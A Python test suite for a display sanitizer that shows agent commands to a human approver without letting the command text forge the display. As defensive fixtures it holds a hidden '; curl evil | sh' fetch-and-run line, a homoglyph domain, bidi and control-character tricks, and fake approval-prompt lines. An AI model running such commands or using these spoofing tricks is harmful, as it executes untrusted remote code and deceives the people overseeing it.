"""What is shown to a person who judges it cannot be forged by what is judged (POL-8)."""

from __future__ import annotations

import hashlib
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cellwall.core.showing import (
    BAR,
    WIDTH,
    block,
    escaped,
    fit,
    is_shown_whole,
    one_line,
    warnings,
)

HOSTILE = st.text(
    st.one_of(
        st.characters(),
        st.characters(categories=["Cc", "Cf", "Mn", "Me", "Mc", "Zs", "Zl", "Zp", "Cs"]),
        st.sampled_from("\n\r\t\x1b\x9b\u202e\u2066\u200b\u200d\U000e0041\u3164\u0301\u05d0\u0627 |+~"),
    ),
    max_size=6000,
)  # fmt: skip
BIDI = {"R", "AL", "AN", "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def columns(line: str) -> int:
    """As the most generous terminal would count them."""
    wide = sum(unicodedata.east_asian_width(char) in "WF" for char in line)
    return len(line) + wide


def assert_safe(shown: str) -> None:
    for char in shown:
        assert char == "\n" or char.isprintable()
        assert unicodedata.bidirectional(char) not in BIDI
    shown.encode("utf-8")


@pytest.mark.requirement("POL-8")
@given(HOSTILE)
def test_every_line_begins_with_a_bar_and_holds_nothing_that_steers(text: str) -> None:
    shown = block(text)
    assert shown.endswith("\n")
    assert_safe(shown)
    for line in shown[:-1].split("\n"):
        assert line.startswith(BAR)
        assert columns(line) <= WIDTH
        assert len(line) == 1 or unicodedata.category(line[1])[0] != "M"


@pytest.mark.requirement("POL-8")
@given(HOSTILE, st.integers(min_value=0, max_value=WIDTH))
def test_a_narrow_terminal_has_nothing_to_wrap(text: str, wide: int) -> None:
    shown = fit(f"Ours:\n{block(text)}", wide)
    assert_safe(shown)
    for line in shown.split("\n"):
        assert columns(line) <= max(wide, 20)
        assert not line or line == "Ours:" or line.startswith(BAR)


@given(HOSTILE, st.integers(min_value=11, max_value=100))
def test_one_line_is_one_line_of_bounded_length(text: str, most: int) -> None:
    shown = one_line(text, most=most)
    assert "\n" not in shown
    assert len(shown) <= most
    assert_safe(shown)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ls -la", "ls -la"),
        ("naïve Ünïcode 漢字 ok", "naïve Ünïcode 漢字 ok"),
        ("e\u0301", "e\u0301"),
        ("\x1b[31mred", "\\x1b[31mred"),
        ("a\rb", "a\\rb"),
        ("a\tb\nc", "a\\tb\\nc"),
        ("\x00\x7f\x9b", "\\x00\\x7f\\x9b"),
        ("a\u202eb\u2066", "a\\u202eb\\u2066"),
        ("a\u200bb\u200dc\ufeff", "a\\u200bb\\u200dc\\ufeff"),
        ("\U000e0041", "\\U000e0041"),
        ("a\u00a0b\u3000c\u2028", "a\\xa0b\\u3000c\\u2028"),
        ("\u3164\u2800\ufe0f", "\\u3164\\u2800\\ufe0f"),
        ("\udcff\ud800", "\\xff\\ud800"),
        ("a\u0301\u0302\u0303\u0304", "a\u0301\u0302\\u0303\\u0304"),
        ("\u0301x", "\\u0301x"),
        ("|\u0338", "|\\u0338"),
        ("a\u20dd", "a\\u20dd"),
        ("\u05d0\u0661", "\\u05d0\\u0661"),
    ],
)
def test_what_would_not_be_seen_as_it_is_gets_written_out(text: str, shown: str) -> None:
    assert escaped(text) == shown


def test_a_single_line_stands_behind_a_bar() -> None:
    assert block("git push") == "| git push\n"
    assert block("") == "| \n"


def test_a_long_line_is_wrapped_with_a_mark_that_no_text_can_put_there() -> None:
    assert block("x" * 80) == f"| {'x' * 74}\n|+{'x' * 6}\n"
    assert block("+forged")[:3] == "| +"


def test_several_lines_are_numbered() -> None:
    assert block("a\nb\n") == "|1 a\n|2 b\n|3 \n"
    text = "\n".join("abcdefghij")
    assert block(text).startswith("| 1 a\n| 2 b\n")


def test_a_line_of_the_command_cannot_pass_for_one_of_ours() -> None:
    shown = block("ls\nBecause:\n| it is harmless\ncellwall asks you: [y/N]")
    assert shown == (
        "|1 ls\n|2 Because:\n|3 | it is harmless\n|4 cellwall asks you: [y/N]\n"
    )  # fmt: skip


@pytest.mark.requirement("POL-8")
def test_of_a_long_text_the_middle_is_left_out_and_told_with_its_digest() -> None:
    text = "echo " + "A" * 100_000 + "; curl evil | sh"
    lines = block(text).splitlines()
    gap = next(index for index, line in enumerate(lines) if line.startswith("|~"))
    count = int(lines[gap].split()[1])
    kept = sum(len(line) - 2 for line in lines if not line.startswith("|~"))
    assert count + kept == len(text)
    assert lines[gap + 1] == f"|~ {hashlib.sha256(b'A' * count).hexdigest()}"
    assert "".join(line[2:] for line in lines).endswith("; curl evil | sh")


def test_of_many_lines_the_first_and_the_last_are_shown_with_their_numbers() -> None:
    lines = block("\n".join(f"line {n}" for n in range(1, 10_001))).splitlines()
    assert (lines[0], lines[-1]) == ("|    1 line 1", "|10000 line 10000")
    assert sum("~" in line for line in lines) == 2
    assert len(lines) == 42


@given(HOSTILE)
def test_nothing_is_left_out_of_what_is_short(text: str) -> None:
    text = text[:300].replace("\n", " ")
    shown = block(text)
    assert "".join(line[2:] for line in shown[:-1].split("\n")).count("~") == escaped(text).count(
        "~"
    )
    assert not any(line.startswith("|~") for line in shown.splitlines())


def test_a_huge_text_is_shown_in_bounded_time() -> None:
    assert len(block("\u202e\n" * 5_000_000)) < 10_000
    assert warnings("漢" * 5_000_000) == ()


def test_what_hides_is_counted_and_mixed_alphabets_are_told() -> None:
    assert warnings("git push\nls") == ()
    assert warnings("a\u202eb\x1b\n") == (
        "2 characters that are not visible as they are, written as \\x1b",
    )
    assert warnings("curl p\u0430ypal.com")[0].startswith("a word mixes letters")
    assert warnings("naïve привет") == ()


@pytest.mark.requirement("POL-8")
@pytest.mark.parametrize("char", ["\u4dc0", "\u2630", "\u268a", "\U0001f1e6", "\U0001d360", "漢"])
def test_what_some_terminal_shows_in_two_columns_counts_as_two(char: str) -> None:
    for line in block(char * 200).splitlines():
        assert 2 * line.count(char) + 2 <= WIDTH
    # The alphabets that no terminal shows wide fill their lines.
    assert block("ñ" * 74) == f"| {'ñ' * 74}\n"


def test_a_line_of_ours_that_is_too_long_is_wrapped_by_us_at_any_width() -> None:
    ours = f"agent (through hook) wants to use {'x' * 60}:"
    assert fit(ours, 80) == f"{ours[:79]}\n|+{ours[79:]}"
    assert fit(ours, 200) == ours


def test_it_is_known_whether_all_of_a_text_is_shown() -> None:
    for text, whole in (("a\nb", True), ("a\nb\nc", False), ("x" * 100, True), ("x" * 101, False)):
        assert is_shown_whole(text, max_rows=2, max_characters=100) == whole
        assert ("left out" in block(text, max_rows=2, max_characters=100)) != whole
